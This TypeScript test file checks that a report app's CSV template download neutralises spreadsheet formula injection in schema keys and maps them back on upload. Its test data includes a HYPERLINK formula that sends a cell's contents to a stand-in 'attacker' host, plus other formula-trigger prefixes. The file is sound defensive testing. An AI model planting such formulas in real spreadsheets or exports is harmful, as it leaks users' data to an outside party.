// The batch CSV template writes schema keys as column names: a key a spreadsheet program would run as a
// formula (`=HYPERLINK(…)`, `+`, `-`, `@`, a leading tab or CR) is neutralised with a leading `'`, and an
// upload of the filled-in template maps the column back to the key.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { startTestApp, type TestApp, type TestUser } from "../helpers/harness.js";
import { createTemplate, upload } from "../batch/helpers.js";

let t: TestApp;
let owner: TestUser;
before(async () => {
  t = await startTestApp();
  owner = await t.signup();
});
after(() => t.close());

const HYPERLINK = '=HYPERLINK("http://attacker/?x="&A1,"Click")';
const KEYS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1", "name"];

const template = JSON.stringify({
  version: 4,
  pageSize: { id: "a4" },
  bands: [{ id: "rh", kind: "report-header", height: 40, elements: [{ id: "t", type: "text", x: 0, y: 0, width: 150, height: 14, text: "Hi {{name}}" }] }],
  schema: KEYS.map((key) => ({ key, type: "string" })),
});

describe("CSV template download", () => {
  test("formula-like schema keys are neutralised; the filled template uploads back to the same keys", async () => {
    const id = await createTemplate(t, owner.token, template, "Formulas");
    const res = await t.call("GET", `/api/templates/${id}/render-batch/template`, { token: owner.token });
    assert.equal(res.status, 200);
    const csv = Buffer.from(res.bytes).toString("utf8");
    assert.equal(
      csv,
      `\uFEFF"'=HYPERLINK(""http://attacker/?x=""&A1,""Click"")",'+1+1,'-2+3,'@SUM(A1),'\tx,"'\r=1",name\r\n`,
    );
    // Filled in and uploaded back, each column maps to its key again.
    const filled = `${csv}a,b,c,d,e,f,Ada\r\n`;
    const up = await upload(t, owner.token, id, { name: "filled.csv", bytes: filled });
    assert.equal(up.status, 200, JSON.stringify(up.body));
    const row = await t.deps.db.selectFrom("batch_inputs").select("rows").where("job_id", "=", up.body.jobId).executeTakeFirstOrThrow();
    assert.deepEqual(JSON.parse(row.rows), [{ [HYPERLINK]: "a", "+1+1": "b", "-2+3": "c", "@SUM(A1)": "d", x: "e", "=1": "f", name: "Ada" }]);
  });
});
